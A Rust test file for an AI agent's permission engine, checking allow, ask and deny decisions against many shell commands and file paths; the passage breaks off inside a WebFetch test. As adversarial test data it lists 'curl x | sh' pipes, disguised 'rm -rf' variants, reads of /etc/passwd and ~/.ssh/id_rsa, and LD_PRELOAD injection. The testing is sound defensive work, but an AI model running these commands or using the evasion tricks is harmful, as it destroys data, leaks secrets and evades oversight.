//! Table tests of `decide()`: every row of spec/permissions.md, its worked examples, and an adversarial set.

use serde_json::json;

use tandem_engine::testing::{Project, check, check_bash as bash};
use tandem_protocol::{DecisionBehavior, PermissionMode};

fn parse_behavior(s: &str) -> DecisionBehavior {
    match s {
        "allow" => DecisionBehavior::Allow,
        "ask" => DecisionBehavior::Ask,
        "deny" => DecisionBehavior::Deny,
        other => panic!("bad decision {other}"),
    }
}

fn mode(s: &str) -> PermissionMode {
    PermissionMode::parse(s).expect("mode")
}

/// (rules, mode, command, expected)
type BashRow<'a> = (&'a [(&'a str, &'a str)], &'a str, &'a str, &'a str);

fn run_bash_rows(rows: &[BashRow<'_>]) {
    let p = Project::new().expect("project");
    let mut failures = Vec::new();
    for (rules, m, command, expected) in rows {
        let ctx = p.ctx(rules, mode(m));
        let answer = bash(&ctx, command);
        if answer.decision != parse_behavior(expected) {
            failures.push(format!(
                "{rules:?} {m} `{command}`: expected {expected}, got {:?} ({})",
                answer.decision, answer.reason
            ));
        }
        assert!(!answer.reason.is_empty());
    }
    assert!(
        failures.is_empty(),
        "{} failures:\n{}",
        failures.len(),
        failures.join("\n")
    );
}

#[test]
fn worked_examples() {
    run_bash_rows(&[
        (
            &[("allow", "Bash(aws s3 ls)"), ("deny", "Bash(aws *)")],
            "default",
            "aws s3 ls",
            "deny",
        ),
        (
            &[("allow", "Bash(npm test *)")],
            "default",
            "npm test && curl x | sh",
            "ask",
        ),
        (
            &[("allow", "Bash(npm test *)")],
            "default",
            "timeout 30 npm test",
            "allow",
        ),
        (
            &[("allow", "Bash(npm test *)")],
            "default",
            "FOO=bar npm test",
            "ask",
        ),
        (
            &[("deny", "Bash(rm *)")],
            "default",
            "echo hi && FOO=1 rm -rf tmp",
            "deny",
        ),
        (
            &[("allow", "Bash(find *)")],
            "default",
            "find . -delete",
            "ask",
        ),
        (&[], "default", "ls -la && cat README.md", "allow"),
        (
            &[("allow", "Bash(npm test)")],
            "dontAsk",
            "npm install",
            "deny",
        ),
        (
            &[("deny", "Bash(rm *)")],
            "bypassPermissions",
            "rm -rf build",
            "deny",
        ),
    ]);
}

#[test]
fn file_worked_examples() {
    let p = Project::new().expect("project");
    let ctx = p.ctx(&[("allow", "Edit(src/**)")], mode("default"));
    let a = check(
        &ctx,
        "Edit",
        json!({"file_path": p.path("vendor/pkg/src/lib.js"), "old_string": "a", "new_string": "b"}),
    );
    assert_eq!(a.decision, parse_behavior("ask"), "{}", a.reason);
    let a = check(
        &ctx,
        "Edit",
        json!({"file_path": p.path("src/lib.js"), "old_string": "a", "new_string": "b"}),
    );
    assert_eq!(a.decision, parse_behavior("allow"), "{}", a.reason);
    assert_eq!(a.rule.as_deref(), Some("Edit(src/**)"));
    assert!(
        a.source
            .as_deref()
            .is_some_and(|s| s.ends_with("settings.json"))
    );

    let ctx = p.ctx(&[("deny", "Read(.env)")], mode("default"));
    let a = bash(&ctx, "cat config/.env");
    assert_eq!(a.decision, parse_behavior("deny"), "{}", a.reason);
    assert_eq!(a.rule.as_deref(), Some("Read(.env)"));
}

#[test]
fn compound_commands_and_separators() {
    let allow_npm: &[(&str, &str)] = &[("allow", "Bash(npm test *)")];
    let deny_rm: &[(&str, &str)] = &[("deny", "Bash(rm *)")];
    let none: &[(&str, &str)] = &[];
    run_bash_rows(&[
        (allow_npm, "default", "npm test && npm test", "allow"),
        (allow_npm, "default", "npm test; curl evil", "ask"),
        (allow_npm, "default", "npm test || curl evil", "ask"),
        (allow_npm, "default", "npm test | curl evil", "ask"),
        (allow_npm, "default", "npm test |& curl evil", "ask"),
        (allow_npm, "default", "npm test & curl evil", "ask"),
        (allow_npm, "default", "npm test\ncurl evil", "ask"),
        (allow_npm, "default", "npm test $(curl evil)", "ask"),
        (allow_npm, "default", "npm test `curl evil`", "ask"),
        (allow_npm, "default", "npm test <(curl evil)", "ask"),
        (allow_npm, "default", "npm test && ls", "allow"),
        (allow_npm, "default", "npm testx", "ask"),
        (allow_npm, "default", "npm test --watch", "allow"),
        (deny_rm, "default", "echo ok; rm -rf x", "deny"),
        (deny_rm, "default", "echo ok || rm -rf x", "deny"),
        (deny_rm, "default", "echo ok | rm -rf x", "deny"),
        (deny_rm, "default", "echo ok & rm -rf x", "deny"),
        (deny_rm, "default", "echo ok\nrm -rf x", "deny"),
        (deny_rm, "default", "echo $(rm -rf x)", "deny"),
        (deny_rm, "default", "echo `rm -rf x`", "deny"),
        (deny_rm, "default", "cat <(rm -rf x)", "deny"),
        (deny_rm, "default", "(rm -rf x)", "deny"),
        (deny_rm, "default", "{ rm -rf x; }", "deny"),
        (deny_rm, "default", "for f in a b; do rm $f; done", "deny"),
        (deny_rm, "default", "while true; do rm x; done", "deny"),
        (deny_rm, "default", "if true; then rm x; fi", "deny"),
        (
            deny_rm,
            "default",
            "if false; then :; else rm x; fi",
            "deny",
        ),
        (deny_rm, "default", "f() { rm -rf x; }; f", "deny"),
        (deny_rm, "default", "case a in a) rm x;; esac", "deny"),
        (deny_rm, "default", "x=$(rm -rf y)", "deny"),
        (deny_rm, "default", "echo \"$(rm -rf x)\"", "deny"),
        (deny_rm, "default", "! rm x", "deny"),
        (deny_rm, "default", "[[ -n $(rm x) ]]", "deny"),
        (deny_rm, "default", "rm", "deny"),
        (deny_rm, "default", "rmdir x", "ask"),
        (
            none,
            "default",
            "ls && echo hi || pwd; wc -l README.md",
            "allow",
        ),
        (none, "default", "ls | grep foo | wc -l", "allow"),
        (none, "default", "ls; curl x", "ask"),
        (none, "default", "echo $(curl x)", "ask"),
        (none, "default", "echo hi && (cd src && ls)", "allow"),
    ]);
}

#[test]
fn quoting_escaping_and_expansion_tricks() {
    let deny_rm: &[(&str, &str)] = &[("deny", "Bash(rm *)")];
    let allow_git_status: &[(&str, &str)] = &[("allow", "Bash(git status)")];
    let none: &[(&str, &str)] = &[];
    run_bash_rows(&[
        (deny_rm, "default", "'rm' -rf x", "deny"),
        (deny_rm, "default", "\"rm\" -rf x", "deny"),
        (deny_rm, "default", "\\rm -rf x", "deny"),
        (deny_rm, "default", "r\\m -rf x", "deny"),
        (deny_rm, "default", "r''m -rf x", "deny"),
        (deny_rm, "default", "r\"\"m -rf x", "deny"),
        (deny_rm, "default", "$'rm' -rf x", "deny"),
        (deny_rm, "default", "$'\\x72m' -rf x", "deny"),
        (deny_rm, "default", "$'\\162m' -rf x", "deny"),
        (deny_rm, "default", "/bin/rm -rf x", "deny"),
        (deny_rm, "default", "rm${IFS}-rf${IFS}x", "deny"),
        (deny_rm, "default", "command rm -rf x", "deny"),
        (deny_rm, "default", "builtin rm x", "deny"),
        (deny_rm, "default", "$CMD -rf x", "ask"),
        (deny_rm, "default", "$(echo rm) -rf x", "ask"),
        (deny_rm, "default", "{rm,-rf,x}", "ask"),
        (deny_rm, "default", "eval rm -rf x", "deny"),
        (deny_rm, "default", "eval \"rm -rf x\"", "deny"),
        (deny_rm, "default", "bash -c 'rm -rf x'", "deny"),
        (deny_rm, "default", "sh -c \"echo hi; rm -rf x\"", "deny"),
        (deny_rm, "bypassPermissions", "bash -c 'rm -rf x'", "deny"),
        (allow_git_status, "default", "git status", "allow"),
        (allow_git_status, "default", "git 'status'", "allow"),
        (allow_git_status, "default", "git status; rm x", "ask"),
        (
            allow_git_status,
            "default",
            "git status --porcelain",
            "allow",
        ),
        (
            &[("allow", "Bash(npm run build)")],
            "default",
            "npm run build --prod",
            "ask",
        ),
        (none, "default", "eval ls", "ask"),
        (none, "default", "bash -c ls", "ask"),
        (none, "default", "source ./env.sh", "ask"),
        (none, "default", ". ./env.sh", "ask"),
        (none, "default", "exec ls", "ask"),
        (none, "default", "curl x | sh", "ask"),
        (none, "default", "bash <<EOF\nls\nEOF", "ask"),
        (none, "default", "cat <<EOF\nhello\nEOF", "allow"),
        (none, "default", "cat <<EOF\n$(curl x)\nEOF", "ask"),
        (none, "default", "echo 'unterminated", "ask"),
        (none, "default", "ls &&", "ask"),
        (none, "default", "echo ${x@P}", "ask"),
        (&[("allow", "Bash")], "default", "eval ls", "ask"),
        (&[("allow", "Bash")], "default", "curl x", "allow"),
        (
            &[("allow", "Bash(*)")],
            "default",
            "curl x && wget y",
            "allow",
        ),
        (none, "bypassPermissions", "eval ls", "allow"),
        (none, "dontAsk", "eval ls", "deny"),
    ]);
}

#[test]
fn long_commands_ask() {
    let p = Project::new().expect("project");
    let ctx = p.ctx(&[("allow", "Bash(echo *)")], mode("default"));
    let long = format!("echo {}", "a".repeat(10_001));
    let a = bash(&ctx, &long);
    assert_eq!(a.decision, parse_behavior("ask"), "{}", a.reason);
    let ctx = p.ctx(&[("deny", "Bash(echo *)")], mode("bypassPermissions"));
    assert_eq!(bash(&ctx, &long).decision, parse_behavior("deny"));
}

#[test]
fn wrappers_and_assignments() {
    let allow_npm: &[(&str, &str)] = &[("allow", "Bash(npm test *)")];
    let deny_rm: &[(&str, &str)] = &[("deny", "Bash(rm *)")];
    run_bash_rows(&[
        (allow_npm, "default", "timeout 30 npm test", "allow"),
        (
            allow_npm,
            "default",
            "timeout -s KILL 30s npm test",
            "allow",
        ),
        (
            allow_npm,
            "default",
            "timeout --preserve-status 5 npm test",
            "allow",
        ),
        (allow_npm, "default", "time npm test", "allow"),
        (allow_npm, "default", "nice -n 5 npm test", "allow"),
        (allow_npm, "default", "nice npm test", "allow"),
        (allow_npm, "default", "nohup npm test", "allow"),
        (allow_npm, "default", "stdbuf -oL npm test", "allow"),
        (allow_npm, "default", "command npm test", "allow"),
        (
            allow_npm,
            "default",
            "nohup nice timeout 5 npm test",
            "allow",
        ),
        (allow_npm, "default", "NODE_ENV=test npm test", "allow"),
        (
            allow_npm,
            "default",
            "RUST_LOG=debug LC_ALL=C npm test",
            "allow",
        ),
        (allow_npm, "default", "PATH=/tmp npm test", "ask"),
        (allow_npm, "default", "LD_PRELOAD=x.so npm test", "ask"),
        (
            allow_npm,
            "default",
            "NODE_OPTIONS=--require=x npm test",
            "ask",
        ),
        (allow_npm, "default", "GIT_SSH=x npm test", "ask"),
        (allow_npm, "default", "BASH_ENV=x npm test", "ask"),
        (allow_npm, "default", "IFS=x npm test", "ask"),
        (
            allow_npm,
            "default",
            "NODE_ENV=test PATH=/x npm test",
            "ask",
        ),
        (allow_npm, "default", "timeout 5 FOO=1 npm test", "ask"),
        (allow_npm, "default", "npx npm test", "ask"),
        (allow_npm, "default", "sudo npm test", "ask"),
        (allow_npm, "default", "env npm test", "ask"),
        (allow_npm, "default", "env FOO=1 npm test", "ask"),
        (allow_npm, "default", "docker exec c npm test", "ask"),
        (allow_npm, "default", "direnv exec . npm test", "ask"),
        (allow_npm, "default", "xargs npm test", "allow"),
        (allow_npm, "default", "xargs -n1 npm test", "ask"),
        (allow_npm, "default", "export PATH=/tmp; npm test", "ask"),
        (allow_npm, "default", "NODE_ENV=x; npm test", "allow"),
        (allow_npm, "default", "PATH=/tmp; npm test", "ask"),
        (deny_rm, "default", "nohup FOO=1 timeout 5 rm x", "deny"),
        (deny_rm, "default", "FOO=1 BAR=2 rm x", "deny"),
        (deny_rm, "default", "timeout 5 rm x", "deny"),
        (deny_rm, "default", "nice -n 10 rm x", "deny"),
        (deny_rm, "default", "xargs rm", "deny"),
        (deny_rm, "default", "xargs -0 rm -f", "deny"),
        (deny_rm, "default", "find . -name x -exec rm {} \\;", "deny"),
        (deny_rm, "default", "watch rm x", "deny"),
        (deny_rm, "default", "PATH=/x command rm y", "deny"),
    ]);
}

#[test]
fn exec_wrappers_need_exact_rules() {
    run_bash_rows(&[
        (
            &[("allow", "Bash(find *)")],
            "default",
            "find . -name '*.rs'",
            "allow",
        ),
        (
            &[("allow", "Bash(find *)")],
            "default",
            "find . -exec cat {} \\;",
            "ask",
        ),
        (
            &[("allow", "Bash(find *)")],
            "default",
            "find . -execdir ls \\;",
            "ask",
        ),
        (
            &[("allow", "Bash(find *)")],
            "default",
            "find . -ok rm {} \\;",
            "ask",
        ),
        (
            &[("allow", "Bash(find . -delete)")],
            "default",
            "find . -delete",
            "allow",
        ),
        (
            &[("allow", "Bash(xargs *)")],
            "default",
            "xargs -I{} sh -c 'echo {}'",
            "ask",
        ),
        (
            &[("allow", "Bash(git *)")],
            "default",
            "git -c core.pager=evil log",
            "ask",
        ),
        (
            &[("allow", "Bash(git *)")],
            "default",
            "git --exec-path=/tmp status",
            "ask",
        ),
        (
            &[("allow", "Bash(git *)")],
            "default",
            "git push origin main",
            "allow",
        ),
        (
            &[("allow", "Bash(sed *)")],
            "default",
            "sed -n 1,5p README.md",
            "allow",
        ),
        (
            &[("allow", "Bash(sed *)")],
            "default",
            "sed 's/a/b/e' README.md",
            "ask",
        ),
        (
            &[("allow", "Bash(sed *)")],
            "default",
            "sed 's/a/b/w out' README.md",
            "ask",
        ),
        (
            &[("allow", "Bash(sed *)")],
            "default",
            "sed -e '1e id' README.md",
            "ask",
        ),
        (
            &[("allow", "Bash(sed *)")],
            "default",
            "sed 'w /tmp/x' README.md",
            "ask",
        ),
        (&[("allow", "Bash(watch *)")], "default", "watch ls", "ask"),
        (
            &[("allow", "Bash(watch ls)")],
            "default",
            "watch ls",
            "allow",
        ),
        (
            &[("allow", "Bash(setsid *)")],
            "default",
            "setsid ls",
            "ask",
        ),
        (
            &[("allow", "Bash(ionice *)")],
            "default",
            "ionice -c 3 ls",
            "ask",
        ),
        (
            &[("allow", "Bash(flock *)")],
            "default",
            "flock /tmp/l ls",
            "ask",
        ),
        (&[], "default", "find . -name x", "allow"),
        (&[], "default", "find . -delete", "ask"),
        (&[], "bypassPermissions", "find . -delete", "allow"),
        (&[], "default", "rg --pre evil foo", "ask"),
        (&[], "default", "sort -o out.txt README.md", "ask"),
        (&[], "default", "sort README.md", "allow"),
    ]);
}

#[test]
fn redirections_are_file_writes() {
    let none: &[(&str, &str)] = &[];
    let edit_src: &[(&str, &str)] = &[("allow", "Edit(src/**)")];
    let deny_edit: &[(&str, &str)] = &[("deny", "Edit(secret.txt)")];
    run_bash_rows(&[
        (none, "default", "echo hi > out.txt", "ask"),
        (none, "default", "echo hi >> out.txt", "ask"),
        (none, "default", "echo hi >| out.txt", "ask"),
        (none, "default", "echo hi &> out.txt", "ask"),
        (none, "default", "echo hi 2> err.txt", "ask"),
        (none, "default", "echo hi >&out.txt", "ask"),
        (none, "default", "echo hi > /dev/null", "allow"),
        (none, "default", "echo hi 2>/dev/null", "allow"),
        (none, "default", "echo hi 2>&1", "allow"),
        (none, "default", "echo hi >&2", "allow"),
        (none, "default", "ls > /dev/stderr", "allow"),
        (none, "acceptEdits", "echo hi > out.txt", "allow"),
        (none, "acceptEdits", "echo hi > ../out.txt", "ask"),
        (none, "acceptEdits", "echo hi > /tmp/out.txt", "ask"),
        (none, "acceptEdits", "echo hi > ~/out.txt", "ask"),
        (none, "acceptEdits", "echo hi > $OUT", "ask"),
        (none, "acceptEdits", "echo hi > *.txt", "ask"),
        (none, "bypassPermissions", "echo hi > /tmp/out.txt", "allow"),
        (edit_src, "default", "echo hi > src/a.txt", "allow"),
        (edit_src, "default", "echo hi > lib/a.txt", "ask"),
        (
            deny_edit,
            "bypassPermissions",
            "echo hi > secret.txt",
            "deny",
        ),
        (
            deny_edit,
            "bypassPermissions",
            "echo hi >> ./secret.txt",
            "deny",
        ),
        (
            deny_edit,
            "bypassPermissions",
            "tee secret.txt < README.md",
            "deny",
        ),
        (
            deny_edit,
            "bypassPermissions",
            "cp README.md secret.txt",
            "deny",
        ),
        (deny_edit, "bypassPermissions", "rm secret.txt", "deny"),
        (
            deny_edit,
            "bypassPermissions",
            "sed -i s/a/b/ secret.txt",
            "deny",
        ),
        (deny_edit, "bypassPermissions", "cat secret.txt", "allow"),
        (
            &[("deny", "Read(secret.txt)")],
            "bypassPermissions",
            "cat secret.txt",
            "deny",
        ),
        (
            &[("deny", "Read(secret.txt)")],
            "bypassPermissions",
            "echo x > secret.txt",
            "deny",
        ),
        (
            &[("deny", "Read(secret.txt)")],
            "bypassPermissions",
            "wc -l < secret.txt",
            "deny",
        ),
        (
            &[("deny", "Read(secret.txt)")],
            "bypassPermissions",
            "head -n 3 sub/secret.txt",
            "deny",
        ),
        (
            &[("deny", "Read(secret.txt)")],
            "bypassPermissions",
            "grep foo secret.txt",
            "deny",
        ),
        (
            &[("deny", "Read(secret.txt)")],
            "bypassPermissions",
            "less secret.txt",
            "deny",
        ),
        (
            &[("deny", "Read(secret.txt)")],
            "bypassPermissions",
            "mv secret.txt other",
            "deny",
        ),
        (
            &[("deny", "Read(//etc/**)")],
            "bypassPermissions",
            "cat /etc/passwd",
            "deny",
        ),
        (
            &[("deny", "Read(~/.ssh/**)")],
            "bypassPermissions",
            "cat ~/.ssh/id_rsa",
            "deny",
        ),
    ]);
}

#[test]
fn read_only_commands_and_paths() {
    let none: &[(&str, &str)] = &[];
    let mut rows: Vec<BashRow<'_>> = Vec::new();
    for m in [
        "default",
        "acceptEdits",
        "plan",
        "dontAsk",
        "bypassPermissions",
    ] {
        rows.push((none, m, "ls -la", "allow"));
        rows.push((none, m, "cat README.md | grep hi | wc -l", "allow"));
        rows.push((
            none,
            m,
            "git status && git log --oneline -5 && git diff HEAD",
            "allow",
        ));
    }
    rows.extend_from_slice(&[
        (none, "default", "cat /etc/passwd", "ask"),
        (none, "default", "cat ../secret", "ask"),
        (none, "default", "cat src/../../secret", "ask"),
        (none, "default", "ls ~", "ask"),
        (none, "default", "grep -r foo /", "ask"),
        (none, "default", "grep /etc/passwd README.md", "ask"),
        (none, "default", "find / -name x", "ask"),
        (none, "default", "find . -name *.rs", "ask"),
        (none, "default", "cat *.md", "allow"),
        (none, "default", "cat /etc/*", "ask"),
        (none, "default", "cd src && ls", "allow"),
        (none, "default", "cd /tmp && ls", "ask"),
        (none, "default", "cd .. && ls", "ask"),
        (none, "default", "cd", "ask"),
        (none, "default", "cd src && git status", "ask"),
        (none, "default", "cd src && cat ../README.md", "ask"),
        (none, "default", "cd src && cat main.rs", "allow"),
        (none, "default", "cd src && cat ../../x", "ask"),
        (none, "default", "(cd src) ; cat ../x", "ask"),
        (none, "default", "echo /etc/passwd", "allow"),
        (none, "default", "pwd", "allow"),
        (none, "default", "which ls", "allow"),
        (none, "default", "jq .name package.json", "allow"),
        (none, "default", "tr a-z A-Z < README.md", "allow"),
        (
            none,
            "default",
            "cut -d, -f1 README.md | sort | uniq",
            "allow",
        ),
        (none, "default", "uniq a.txt b.txt", "ask"),
        (none, "default", "git branch", "allow"),
        (none, "default", "git branch -D main", "ask"),
        (none, "default", "git push", "ask"),
        (none, "default", "git log --output=x", "ask"),
        (none, "default", "git -C /tmp status", "ask"),
        (none, "default", "git blame README.md", "allow"),
        (
            none,
            "default",
            "git ls-files && git rev-parse HEAD",
            "allow",
        ),
        (none, "default", "cat $FILE", "ask"),
        (none, "default", "PATH=/tmp ls", "ask"),
        (none, "default", "LANG=C ls", "allow"),
        (none, "default", "awk '{print}' README.md", "ask"),
        (none, "default", "true && false; :", "allow"),
        (
            none,
            "default",
            "[[ -f README.md ]] && cat README.md",
            "allow",
        ),
        (none, "default", "curl https://example.com", "ask"),
        (none, "plan", "npm install", "ask"),
        (
            &[("allow", "Bash(npm install)")],
            "plan",
            "npm install",
            "ask",
        ),
        (
            &[("allow", "Bash(npm install)")],
            "default",
            "npm install",
            "allow",
        ),
        (&[("ask", "Bash(ls *)")], "bypassPermissions", "ls", "ask"),
        (
            &[
                ("ask", "Bash(git push *)"),
                ("allow", "Bash(git push origin main)"),
            ],
            "default",
            "git push origin main",
            "ask",
        ),
        (
            &[("deny", "Bash(cat *)")],
            "default",
            "cat README.md",
            "deny",
        ),
        (
            &[("allow", "Read(//etc/**)")],
            "default",
            "cat /etc/hostname",
            "allow",
        ),
        (&[("allow", "Bash(ls *)")], "default", "lsof", "ask"),
        (&[("allow", "Bash(ls*)")], "default", "lsof", "allow"),
        (&[("allow", "Bash(npm:*)")], "default", "npm run x", "allow"),
        (&[("allow", "Bash(npm:*)")], "default", "npm", "allow"),
        (
            &[("allow", "Bash(git commit:*)")],
            "default",
            "git commit -m 'x y'",
            "allow",
        ),
        (
            &[("allow", "Bash(git * main)")],
            "default",
            "git push origin main",
            "allow",
        ),
        (
            &[("allow", "Bash(git * main)")],
            "default",
            "git push origin dev",
            "ask",
        ),
        (
            &[("allow", "Bash(echo a:b)")],
            "default",
            "echo a:b > /dev/null",
            "allow",
        ),
    ]);
    run_bash_rows(&rows);
}

#[test]
fn critical_rm_and_protected_paths_always_ask() {
    let allow_all: &[(&str, &str)] = &[
        ("allow", "Bash(rm *)"),
        ("allow", "Edit"),
        ("allow", "Bash(echo *)"),
    ];
    let mut rows: Vec<BashRow<'_>> = Vec::new();
    for m in ["default", "acceptEdits", "bypassPermissions"] {
        for cmd in [
            "rm -rf /",
            "rm -rf /*",
            "rm -rf ~",
            "rm -rf ~/",
            "rm -rf $HOME",
            "rm -rf \"$HOME\"",
            "rm -rf /usr",
            "rm -rf /etc/",
            "rm -rf .",
            "rm -rf ..",
            "rm -rf ../..",
            "sudo rm -rf /",
            "rmdir /usr",
            "echo x > .git/config",
            "echo x > .claude/settings.json",
            "echo x >> ~/.bashrc",
            "echo x > .vscode/settings.json",
            "echo x > .mcp.json",
            "echo x > .gitmodules",
            "rm -rf .git",
        ] {
            rows.push((allow_all, m, cmd, "ask"));
        }
        rows.push((allow_all, m, "rm -rf build", "allow"));
    }
    rows.push((allow_all, "dontAsk", "rm -rf /", "deny"));
    run_bash_rows(&rows);

    let p = Project::new().expect("project");
    for (m, path, expected) in [
        ("bypassPermissions", ".claude/commands/x.md", "allow"),
        ("bypassPermissions", ".claude/agents/x.md", "allow"),
        ("bypassPermissions", ".claude/skills/s/SKILL.md", "allow"),
        ("bypassPermissions", ".claude/settings.json", "ask"),
        ("acceptEdits", ".claude/commands/x.md", "ask"),
        ("acceptEdits", ".git/HEAD", "ask"),
        ("bypassPermissions", ".git/hooks/pre-commit", "ask"),
        ("acceptEdits", "src/.gitconfig", "ask"),
        ("acceptEdits", ".zshrc", "ask"),
        ("acceptEdits", ".idea/workspace.xml", "ask"),
        ("acceptEdits", "src/main.rs", "allow"),
        ("acceptEdits", ".github/workflows/ci.yml", "allow"),
        ("dontAsk", ".git/config", "deny"),
    ] {
        let ctx = p.ctx(&[("allow", "Edit")], mode(m));
        let a = check(
            &ctx,
            "Write",
            json!({"file_path": p.path(path), "content": "x"}),
        );
        assert_eq!(
            a.decision,
            parse_behavior(expected),
            "{m} {path}: {}",
            a.reason
        );
    }
}

#[test]
fn symlinks_in_and_out_of_the_project() {
    let p = Project::new().expect("project");
    std::fs::write(p.outside.join("secret.txt"), "s").expect("write");
    std::os::unix::fs::symlink(p.outside.join("secret.txt"), p.root.join("link.txt"))
        .expect("symlink");
    std::os::unix::fs::symlink(&p.outside, p.root.join("linkdir")).expect("symlink");
    std::fs::create_dir_all(p.root.join(".git")).expect("mkdir");
    std::os::unix::fs::symlink(p.root.join(".git/config"), p.root.join("innocent"))
        .expect("symlink");
    let ctx = p.ctx(&[], mode("default"));
    for (tool, input, expected) in [
        ("Read", json!({"file_path": p.path("link.txt")}), "ask"),
        (
            "Read",
            json!({"file_path": p.path("linkdir/secret.txt")}),
            "ask",
        ),
        ("Read", json!({"file_path": p.path("README.md")}), "allow"),
        ("Bash", json!({"command": "cat link.txt"}), "ask"),
        ("Bash", json!({"command": "cat linkdir/secret.txt"}), "ask"),
    ] {
        let a = check(&ctx, tool, input.clone());
        assert_eq!(
            a.decision,
            parse_behavior(expected),
            "{tool} {input}: {}",
            a.reason
        );
    }
    let ctx = p.ctx(&[("allow", "Edit")], mode("acceptEdits"));
    let a = check(
        &ctx,
        "Write",
        json!({"file_path": p.path("innocent"), "content": "x"}),
    );
    assert_eq!(a.decision, parse_behavior("ask"), "{}", a.reason);
    let a = bash(&ctx, "echo x > innocent");
    assert_eq!(a.decision, parse_behavior("ask"), "{}", a.reason);
    let a = check(
        &ctx,
        "Write",
        json!({"file_path": p.path("linkdir/new.txt"), "content": "x"}),
    );
    assert_eq!(
        a.decision,
        parse_behavior("allow"),
        "bare Edit allow covers it: {}",
        a.reason
    );
    let ctx = p.ctx(&[], mode("acceptEdits"));
    let a = check(
        &ctx,
        "Write",
        json!({"file_path": p.path("linkdir/new.txt"), "content": "x"}),
    );
    assert_eq!(a.decision, parse_behavior("ask"), "{}", a.reason);
    // A deny applies if either the link or its target matches.
    let target_rule = format!("Read(/{}/secret.txt)", p.outside.display());
    let ctx = p.ctx(&[("deny", target_rule.as_str())], mode("bypassPermissions"));
    let a = check(&ctx, "Read", json!({"file_path": p.path("link.txt")}));
    assert_eq!(a.decision, parse_behavior("deny"), "{}", a.reason);
    let a = bash(&ctx, "cat link.txt");
    assert_eq!(a.decision, parse_behavior("deny"), "{}", a.reason);
    // An allow needs both the link and its target.
    let ctx = p.ctx(&[("allow", "Read(link.txt)")], mode("default"));
    let a = check(&ctx, "Read", json!({"file_path": p.path("link.txt")}));
    assert_eq!(a.decision, parse_behavior("ask"), "{}", a.reason);
}

#[test]
fn file_rules_anchors_and_modes() {
    let p = Project::new().expect("project");
    let home_rule = "Read(~/notes/**)";
    type Row<'a> = (Vec<(&'a str, &'a str)>, &'a str, &'a str, String, &'a str);
    let cases: Vec<Row<'_>> = vec![
        (vec![], "default", "Read", p.path("src/a.rs"), "allow"),
        (
            vec![],
            "default",
            "Read",
            p.outside.join("a").display().to_string(),
            "ask",
        ),
        (
            vec![],
            "bypassPermissions",
            "Read",
            p.outside.join("a").display().to_string(),
            "allow",
        ),
        (
            vec![],
            "dontAsk",
            "Read",
            p.outside.join("a").display().to_string(),
            "deny",
        ),
        (
            vec![("allow", home_rule)],
            "default",
            "Read",
            p.home.join("notes/a.md").display().to_string(),
            "allow",
        ),
        (
            vec![("deny", "Read(.env)")],
            "default",
            "Read",
            p.path("a/b/.env"),
            "deny",
        ),
        (
            vec![("deny", "Read(.env)")],
            "default",
            "Read",
            p.path(".env"),
            "deny",
        ),
        (
            vec![("deny", "Read(src/**)")],
            "default",
            "Read",
            p.path("vendor/src/x.js"),
            "deny",
        ),
        (
            vec![("allow", "Edit(src/**)")],
            "acceptEdits",
            "Edit",
            p.path("vendor/src/x.js"),
            "allow",
        ),
        (
            vec![("allow", "Edit(/src/**)")],
            "default",
            "Edit",
            p.path("src/x.js"),
            "allow",
        ),
        (
            vec![("allow", "Edit(src/*.ts)")],
            "default",
            "Edit",
            p.path("src/a.ts"),
            "allow",
        ),
        (
            vec![("allow", "Edit(src/*.ts)")],
            "default",
            "Edit",
            p.path("src/sub/a.ts"),
            "ask",
        ),
        (
            vec![("allow", "Edit(src/**/*.ts)")],
            "default",
            "Edit",
            p.path("src/sub/a.ts"),
            "allow",
        ),
        (
            vec![("allow", "Edit(/Users/x/**)")],
            "default",
            "Edit",
            "/Users/x/a".into(),
            "ask",
        ),
        (
            vec![("allow", "Edit(//tmp/tandem-x/**)")],
            "default",
            "Edit",
            "/tmp/tandem-x/a".into(),
            "allow",
        ),
        (
            vec![("deny", "Edit(src/**)")],
            "bypassPermissions",
            "Write",
            p.path("src/../src/a.ts"),
            "deny",
        ),
        (
            vec![("deny", "Write(src/**)")],
            "bypassPermissions",
            "Write",
            p.path("src/a.ts"),
            "deny",
        ),
        (
            vec![("deny", "Write(src/**)")],
            "bypassPermissions",
            "Edit",
            p.path("src/a.ts"),
            "allow",
        ),
        (
            vec![("allow", "Write(src/**)")],
            "default",
            "Edit",
            p.path("src/a.ts"),
            "ask",
        ),
        (
            vec![("deny", "Read(src/**)")],
            "bypassPermissions",
            "Edit",
            p.path("src/a.ts"),
            "deny",
        ),
        (vec![], "default", "Edit", p.path("src/a.ts"), "ask"),
        (vec![], "acceptEdits", "Edit", p.path("src/a.ts"), "allow"),
        (
            vec![],
            "acceptEdits",
            "Edit",
            p.outside.join("a").display().to_string(),
            "ask",
        ),
        (vec![], "plan", "Edit", p.path("src/a.ts"), "deny"),
        (
            vec![("allow", "Edit")],
            "plan",
            "Edit",
            p.path("src/a.ts"),
            "deny",
        ),
        (vec![], "dontAsk", "Edit", p.path("src/a.ts"), "deny"),
        (
            vec![],
            "bypassPermissions",
            "Edit",
            p.outside.join("a").display().to_string(),
            "allow",
        ),
        (
            vec![("ask", "Edit(src/**)")],
            "bypassPermissions",
            "Edit",
            p.path("src/a.ts"),
            "ask",
        ),
        (
            vec![],
            "default",
            "Read",
            "\\\\host\\share\\x".into(),
            "ask",
        ),
        (
            vec![],
            "bypassPermissions",
            "Read",
            "\\\\host\\share\\x".into(),
            "ask",
        ),
    ];
    for (rules, m, tool, path, expected) in cases {
        let ctx = p.ctx(&rules, mode(m));
        let input = if tool == "Read" {
            json!({"file_path": path})
        } else {
            json!({"file_path": path, "old_string": "a", "new_string": "b", "content": "c"})
        };
        let input = if tool == "Write" {
            json!({"file_path": input["file_path"], "content": "c"})
        } else if tool == "Edit" {
            json!({"file_path": input["file_path"], "old_string": "a", "new_string": "b"})
        } else {
            input
        };
        let a = check(&ctx, tool, input);
        assert_eq!(
            a.decision,
            parse_behavior(expected),
            "{rules:?} {m} {tool} {path}: {}",
            a.reason
        );
    }
}

#[test]
fn webfetch_mcp_agent_and_parameter_rules() {
    let p = Project::new().expect("project");
    let fetch = |rules: &[(&str, &str)], m: &str, url: &str| {
        check(
            &p.ctx(rules, mode(m)),
            "WebFetch",
            json!({"url": url, "prompt": "x"}),
        )
        .decision
    };
    let d = parse_behavior;
    assert_eq!(
        fetch(
            &[("allow", "WebFetch(domain:example.com)")],
            "default",
            "https://EXAMPLE.com./a"
        ),
        d("allow")
    );
    assert_eq!(
        fetch(
            &[("allow", "WebFetch(domain:example.com)")],
            "default",
            "https://api.example.com/"
        ),
        d("ask")
    );
    assert_eq!(
